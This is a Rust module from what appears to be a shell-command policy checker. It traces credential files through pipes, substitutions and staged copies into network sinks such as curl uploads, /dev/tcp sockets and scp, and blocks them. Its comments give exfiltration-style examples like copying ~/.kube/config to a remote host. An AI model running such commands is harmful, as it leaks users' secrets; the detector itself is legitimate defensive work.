//! `credential-exfiltration`: a credential file read and sent to a network
//! sink within one command.
//!
//! A taint walk over the commands: a command that reads a credential file
//! carries it; so does every command whose input, arguments, redirections
//! or environment hold a carrier's output (pipes, `$(…)`, `<(…)`, variables
//! and `read`, through the analysis's sources), and every command that reads
//! a file a carrier wrote earlier (a staged copy). A network sink that
//! carries a credential, or whose upload options name one, is a hard deny.
//! URL text is never a read: `curl https://x/.env` and `curl -d
//! template=.env.local` send no file.

use crate::policy::credentials::{
    CREDENTIAL_DIRS, CREDENTIAL_SUFFIXES, PATTERN_SHAPES, is_credential_path,
};
use crate::shell::spec::{Network, Role};
use crate::shell::{Command, RedirectOp, Sources, Value};

use super::facts::Facts;
use super::paths::{Target, ends_with, is_within};
use super::{Category, HardDeny, deny, net};

fn credential(f: &mut Facts<'_>, target: &Target, tree: bool) -> bool {
    let direct = match target {
        Target::Exact(p) | Target::Partial(p) => is_credential_path(p),
        Target::Pattern(_) => PATTERN_SHAPES
            .iter()
            .chain(CREDENTIAL_SUFFIXES)
            .any(|s| ends_with(target, s)),
    };
    if direct {
        return true;
    }
    if !tree {
        return false;
    }
    if CREDENTIAL_DIRS.iter().any(|d| ends_with(target, d)) {
        return true;
    }
    let home = f.env.home.clone();
    CREDENTIAL_DIRS
        .iter()
        .any(|d| f.covers(target, &format!("{home}/{}", d.join("/"))))
}

/// Commands that print names (or digests: a hash of a key is not the
/// key) rather than contents.
fn names_only(cmd: &Command) -> bool {
    matches!(
        cmd.name(),
        Some(
            "md5sum"
                | "sha1sum"
                | "sha224sum"
                | "sha256sum"
                | "sha384sum"
                | "sha512sum"
                | "b2sum"
                | "cksum"
                | "echo"
                | "printf"
                | "ls"
                | "find"
                | "stat"
                | "realpath"
                | "readlink"
                | "basename"
                | "dirname"
                | "file"
                | "test"
                | "["
                | "wc"
        )
    )
}

/// Roles through which a command takes a file's contents (a move or a
/// link carries them to the new name too).
const READS: &[Role] = &[
    Role::Read,
    Role::ReadTree,
    Role::Upload,
    Role::MoveAway,
    Role::LinkTarget,
];

/// A file a carrier wrote, with the credential it copies.
struct Staged {
    path: String,
    credential: String,
    by: usize,
}

/// What makes command `i` carry a credential.
#[derive(Debug, Clone)]
struct Carry {
    credential: String,
    how: &'static str,
}

fn direct_read(f: &mut Facts<'_>, i: usize, staged: &[Staged]) -> Option<Carry> {
    let cmd = f.command(i)?;
    if names_only(cmd) {
        return None;
    }
    let recursive = f
        .effects_of(i)
        .is_some_and(|e| e.has(crate::shell::spec::Modifier::Recursive));
    for touch in f.touches(i).iter() {
        if !READS.contains(&touch.role) {
            continue;
        }
        for target in &touch.targets {
            if let Target::Exact(p) = target
                && let Some(s) = staged.iter().find(|s| s.by < i && is_within(p, &s.path))
            {
                return Some(Carry {
                    credential: s.credential.clone(),
                    how: "staged",
                });
            }
            if credential(f, target, touch.role == Role::ReadTree || recursive) {
                return Some(Carry {
                    credential: touch.value.to_string(),
                    how: "reads",
                });
            }
        }
    }
    None
}

fn sources_of(cmd: &Command) -> Sources {
    let mut s = cmd.stdin_from.clone();
    for a in &cmd.argv {
        s.extend(&a.sources());
    }
    for r in &cmd.redirects {
        s.extend(&r.target.sources());
    }
    for (_, v) in &cmd.assignments {
        s.extend(&v.sources());
    }
    s
}

/// The carriers of every command, to a fixpoint.
fn carriers(f: &mut Facts<'_>) -> (Vec<Option<Carry>>, Vec<Staged>) {
    let n = f.analysis.commands.len();
    let mut carried: Vec<Option<Carry>> = vec![None; n];
    let mut staged: Vec<Staged> = Vec::new();
    for _ in 0..=n.min(256) {
        let mut changed = false;
        for i in 0..n {
            if carried.get(i).is_some_and(Option::is_some) {
                continue;
            }
            let mut found = direct_read(f, i, &staged);
            if found.is_none()
                && let Some(cmd) = f.command(i)
            {
                let sources = sources_of(cmd);
                found = sources.iter().find_map(|s| {
                    carried.get(s).cloned().flatten().map(|c| Carry {
                        credential: c.credential,
                        how: if cmd.stdin_from.contains(s) {
                            "pipe"
                        } else {
                            "substitution"
                        },
                    })
                });
                // A wrapper's command carries what the wrapper carries, and
                // a wrapper prints what its command prints.
                if found.is_none()
                    && let Some(p) = cmd.parent
                {
                    found = carried.get(p).cloned().flatten();
                }
                if found.is_none() {
                    found = (0..n)
                        .filter(|&j| f.command(j).is_some_and(|c| c.parent == Some(i)))
                        .find_map(|j| carried.get(j).cloned().flatten())
                        .map(|c| Carry {
                            credential: c.credential,
                            how: "pipe",
                        });
                }
            }
            if let Some(c) = found {
                for touch in f.touches(i).iter() {
                    if !matches!(touch.role, Role::Write) {
                        continue;
                    }
                    for target in &touch.targets {
                        if let Target::Exact(p) = target
                            && p != "/dev/null"
                            && !staged.iter().any(|s| s.path == *p)
                        {
                            staged.push(Staged {
                                path: p.clone(),
                                credential: c.credential.clone(),
                                by: i,
                            });
                        }
                    }
                }
                if let Some(slot) = carried.get_mut(i) {
                    *slot = Some(c);
                }
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }
    (carried, staged)
}

/// A network sink: a client, stream or copy tool, or a `/dev/tcp` socket.
fn sink(f: &Facts<'_>, i: usize) -> Option<Network> {
    let cmd = f.command(i)?;
    let socket = cmd.redirects.iter().any(|r| {
        (r.op.writes() || r.op == RedirectOp::ReadWrite)
            && r.target.candidates().iter().any(|t| {
                let h = t.known_prefix();
                h.starts_with("/dev/tcp/") || h.starts_with("/dev/udp/")
            })
    });
    if socket {
        return Some(Network::Stream);
    }
    match f.effects_of(i)?.network {
        Network::None => None,
        other => Some(other),
    }
}

/// Files an upload option of command `i` sends: `-T f`, `-d @f`,
/// `-F k=@f`, `-H @f`, `--variable k@f`.
fn uploaded(f: &Facts<'_>, i: usize) -> Vec<(Value, &'static str)> {
    let Some(eff) = f.effects_of(i) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for (role, value) in &eff.items {
        let file = match role {
            Role::Upload => Some(value.clone()),
            Role::Data | Role::Header => {
                crate::shell::effects::after_prefix(value, "@").or_else(|| {
                    // `--data-urlencode name@file`.
                    value
                        .candidates()
                        .iter()
                        .any(|t| {
                            let h = t.known_prefix();
                            h.find('@')
                                .is_some_and(|at| h.find('=').is_none_or(|eq| at < eq))
                        })
                        .then(|| crate::shell::effects::after_marker(value, "@"))
                        .flatten()
                })
            }
            Role::FormData => crate::shell::effects::after_marker(value, "=@")
                .or_else(|| crate::shell::effects::after_marker(value, "=<"))
                .map(|v| trim_form_type(&v)),
            Role::Variable => crate::shell::effects::after_marker(value, "@"),
            _ => None,
        };
        if let Some(file) = file
            && file.as_known() != Some("-")
            && file.as_known() != Some("")
        {
            out.push((file, option_label(*role)));
        }
    }
    out
}

fn option_label(role: Role) -> &'static str {
    match role {
        Role::Upload => "an upload option",
        Role::Data => "a data option",
        Role::FormData => "a form field",
        Role::Header => "a header file",
        Role::Variable => "a variable file",
        _ => "an option",
    }
}

/// `file;type=text/plain`: the file name ends at `;`.
fn trim_form_type(v: &Value) -> Value {
    let candidates = v
        .candidates()
        .iter()
        .map(|t| match t.as_known() {
            Some(s) => crate::shell::Text::lit(s.split(';').next().unwrap_or("")),
            None => t.clone(),
        })
        .collect();
    Value::from_candidates(candidates).unwrap_or_else(|| v.clone())
}

pub(super) fn check(f: &mut Facts<'_>) -> Option<HardDeny> {
    let n = f.analysis.commands.len();
    let sinks: Vec<(usize, Network)> = (0..n).filter_map(|i| sink(f, i).map(|s| (i, s))).collect();
    if sinks.is_empty() {
        return None;
    }
    let (carried, staged) = carriers(f);
    for (i, kind) in sinks {
        let Some(cmd) = f.command(i) else { continue };
        let name = cmd.name().unwrap_or("a socket").to_owned();
        let cwd = cmd.cwd.clone();
        for (file, option) in uploaded(f, i) {
            for target in super::paths::resolve(&file, &cwd) {
                if let Target::Exact(p) = &target
                    && let Some(s) = staged.iter().find(|s| s.by < i && is_within(p, &s.path))
                {
                    return deny(
                        Category::CredentialExfiltration,
                        "credential-exfiltration/staged-file",
                        format!(
                            "`{name}` uploads `{file}` ({option}), a staged copy of the credential file `{}`",
                            s.credential
                        ),
                    );
                }
                if credential(f, &target, true) {
                    return deny(
                        Category::CredentialExfiltration,
                        "credential-exfiltration/upload-option",
                        format!("`{name}` uploads the credential file `{file}` ({option})"),
                    );
                }
            }
        }
        if kind == Network::RemoteCopy
            && let Some(d) = remote_copy(f, i, &name)
        {
            return Some(d);
        }
        let Some(Some(carry)) = carried.get(i) else {
            continue;
        };
        if kind == Network::RemoteCopy && carry.how == "reads" {
            // A copy tool reading a credential only exfiltrates to a remote
            // destination (checked above).
            continue;
        }
        let (rule, how) = match carry.how {
            "reads" => ("credential-exfiltration/sink-reads-file", "reads"),
            "staged" => (
                "credential-exfiltration/staged-file",
                "sends a staged copy of",
            ),
            "pipe" => (
                "credential-exfiltration/pipe-to-sink",
                "receives through a pipe",
            ),
            _ => (
                "credential-exfiltration/substitution",
                "receives through a substitution or variable",
            ),
        };
        return deny(
            Category::CredentialExfiltration,
            rule,
            format!(
                "network sink `{name}` {how} the credential file `{}`",
                carry.credential
            ),
        );
    }
    None
}

/// `scp ~/.kube/config host:/tmp/`: a credential source with a remote
/// destination.
fn remote_copy(f: &mut Facts<'_>, i: usize, name: &str) -> Option<HardDeny> {
    let touches = f.touches(i);
    let dest = touches.iter().find(|t| t.role == Role::Write)?;
    if !net::is_remote_operand(&dest.value) {
        return None;
    }
    for touch in touches
        .iter()
        .filter(|t| matches!(t.role, Role::ReadTree | Role::Read))
    {
        if net::is_remote_operand(&touch.value) {
            continue;
        }
        for target in &touch.targets {
            if credential(f, target, true) {
                return deny(
                    Category::CredentialExfiltration,
                    "credential-exfiltration/remote-copy",
                    format!(
                        "`{name}` copies the credential file `{}` to `{}`",
                        touch.value, dest.value
                    ),
                );
            }
        }
    }
    None
}
